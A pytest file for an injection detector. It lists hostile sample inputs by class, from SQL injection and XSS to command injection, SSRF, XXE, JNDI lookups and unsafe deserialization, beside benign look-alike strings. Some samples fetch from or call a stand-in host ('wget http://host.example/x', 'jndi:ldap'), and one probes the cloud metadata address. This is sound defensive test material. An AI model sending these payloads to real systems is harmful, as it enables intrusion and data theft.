"""For each class of injection, hostile values beside honest neighbours that share their words and signs."""

import pytest

from ringwall.engines.payload import inspect

HOSTILE = {
    "sqli": (
        "' or 1=1-- -",
        "x') or ('a'='a",
        '" or "a"="a',
        "1 or 1=1",
        "-1 union all select null, version()",
        "1; drop table visits",
        "7 and sleep(5)",
        "' || pg_sleep(5) --",
        "admin'--",
        "1 order by 12--",
        "'; waitfor delay '0:0:9'--",
        "1 and (select count(*) from visits) > 3",
        "' having 1=1--",
        "') where 3=3 or 4=5--",
        "x' and 'a' like 'a",
        "',null,null) waitfor delay '0:0:5'--",
    ),
    "nosqli": (
        '{"name": {"$ne": null}}',
        "login[$gt]=&secret[$ne]=x",
        "' || 1==1//",
        "x'; return true; var a='",
        '{"$where": "this.age > 3"}',
    ),
    "xss": (
        "<script>probe()</script>",
        "<img src=x onerror=probe(1)>",
        "<svg/onload=probe(1)>",
        '<a href="jAvA\tscript:probe(1)">x</a>',
        '" onmouseover="probe(1)',
        "javascript:probe(1)",
        "';alert(1)//",
        "<div style='width:expression(probe(1))'>",
        '<iframe srcdoc="x"></iframe>',
        "data:text/html,<b>x",
    ),
    "cmdi": (
        "x; cat /var/data/list",
        "a | wget http://host.example/x",
        "$(uname -a)",
        "x && net user",
        "`uname`",
        "127.0.0.1; ping -c 3 host.example",
        "() { :; }; echo x",
        "; c'a't /srv/list",
        "x;cat${IFS}/srv/list",
        "bash -c 'uname'",
        "for %a in (1,2) do echo %a",
    ),
    "lfi": (
        "../../srv/list",
        "..\\..\\srv\\list",
        "....//....//srv",
        "/proc/self/maps",
        "/etc/fstab",
        "php://filter/resource=x",
        "img/../../x",
        "C:\\windows\\system.ini",
    ),
    "ssti": (
        "{{ 6 * 7 }}",
        "${6*7}",
        "#{6*7}",
        "<%= 6*7 %>",
        "{{ config.items() }}",
        "{% for x in ().__class__ %}{% endfor %}",
        "{{ 'x' | attr('y') }}",
        "#set($x = 6 * 7)",
    ),
    "ssrf": (
        "http://127.0.0.1:8080/",
        "http://0x7f.1/",
        "http://2130706433/",
        "http://[::ffff:10.0.0.1]/",
        "http://169.254.169.254/latest/",
        "http://10.0.0.1.nip.io/",
        "http://good.example@10.0.0.1/",
        "gopher://host.example:25/_x",
        "https://host.example/?next=http://localhost/",
    ),
    "xxe": (
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
        '<!DOCTYPE a SYSTEM "http://host.example/a.dtd">',
        '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></x>',
    ),
    "rce": (
        "<?php probe(); ?>",
        "eval($_POST['x'])",
        "__import__('os').getcwd()",
        "require('child_process').fork('x')",
        "T(java.lang.Runtime).getRuntime()",
        "${jndi:ldap://host.example/a}",
        "('sys'.'tem')('x')",
        "while(!![])",
    ),
    "ldap": ("*)(uid=*", "x)(|(cn=*", "*))%00", "(|(uid=*)(cn=x))"),
    "deserialization": (
        'O:4:"Note":1:{s:1:"a";i:1;}',
        "rO0ABXNyAAR0ZXN0AAAAAAAAAAECAAB4cA==",
        "!!python/object/apply:builtins.print [x]",
        "%TAG !q! tag:yaml.org,2002:python/\n--- !q!object/new:dict []",
        "!<tag:yaml.org,2002:python/object/apply:builtins.print> [x]",
        '{"$type": "Some.Name.Space.Type, Assembly"}',
        "cbuiltins\nprint\n(S'x'\ntR.",
    ),
    "crlf": ("x%0d%0aX-Probe:%201", "\\r\\nSet-Cookie: a=b"),
    "ssi": ('<!--#echo var="DATE_LOCAL" -->', '<esi:include src="http://host.example/"/>'),
    "xslt": ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',),
    "proto": ("__proto__[x]=1", "constructor[prototype][x]=1"),
    "xpath": ("'] | //user/*['", "' or count(//user)=3 or 'a'='b"),
}
HONEST = (
    "O'Brien",
    "Conan O'Brien or Sean O'Casey, whoever answers first",
    "don't select me or drop by; it's 5 o'clock",
    "The union select committee meets at 5; order by phone.",
    "the 'yes' or 'no' buttons",
    'a 12" pizza -- or two 8" ones',
    "rock 'n' roll and R&B",
    "1 + 1 = 2 and 2 + 2 = 4, or so they say",
    "status = open or status = late",
    "Group by age",
    "I'd like to order by Friday; can you insert the invoice and update me?",
    "l'été où j'ai dit qu'il n'y avait rien d'autre; c'est l'histoire d'une vie",
    "Prices: $5, $10 & $20; shipping's free (orders > $50).",
    "Tom & Jerry; cat & mouse; who is it?",
    "List the files; then sort them by size | type | date",
    "and/or",
    "either/or, his/hers",
    "{{ name }}",
    "Hello {{ name }}, your code is ${CODE}",
    "What does {{ value }} mean?",
    "call me (maybe)",
    "f(x) = x^2; g(x) = f(f(x))",
    "<3 this product!!! 10/10",
    "Use <b>bold</b> or <i>italic</i>; plain text is okay too.",
    "What's the difference between <script> and <noscript>?",
    "a < b and c > d",
    "javascript: the good parts",
    "online = true",
    "https://shop.example/list?sort=price&page=2&q=a+b",
    "https://host.example/a/b.html#c",
    "http://93.184.216.34/",
    "name@host.example",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlLWlzLW5vdC1oZXJl",
    "550e8400-e29b-41d4-a716-446655440000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
    "2024-05-01T10:00:00+02:00",
    "+49 (0)30 123-4567; ext. 12",
    '{"id": 3, "tags": ["a", "b"], "price": 3.5}',
    "(&(objectCategory=computer)(name=desk1))",
    "see section 3) (b) and (c)",
    "Subject: hello\nTo: you\nLet me know",
    "10 Downing Street, flat #3; ring twice",
    "100% cotton; 50% off",
    "C# and F# -- which?",
    "/home/anna/report.pdf",
    "report (final).pdf",
    "system of a down",
    "the DOCTYPE declaration of an XML document",
    "prototype and constructor patterns",
    "Best offer: 3 for $10, 5 for $15",
    "¿Dónde está la biblioteca? ¡Aquí!",
    "数据库 选择 或者 删除",
)


@pytest.mark.parametrize(("kind", "value"), [(k, v) for k, values in HOSTILE.items() for v in values])
def test_hostile_is_found_for_its_class(kind, value):
    finding = inspect(value)
    assert finding is not None
    assert (finding.kind, finding.reason) == (kind, f"detection.{kind}")


@pytest.mark.parametrize("value", [v for values in HOSTILE.values() for v in values])
def test_evidence_never_repeats_the_value(value):
    finding = inspect(value)
    assert finding is not None
    assert value not in finding.evidence
    assert "host.example" not in finding.evidence


@pytest.mark.parametrize("value", HONEST)
def test_honest_neighbour_passes(value):
    assert inspect(value) is None
    assert inspect(value, "plain") is None
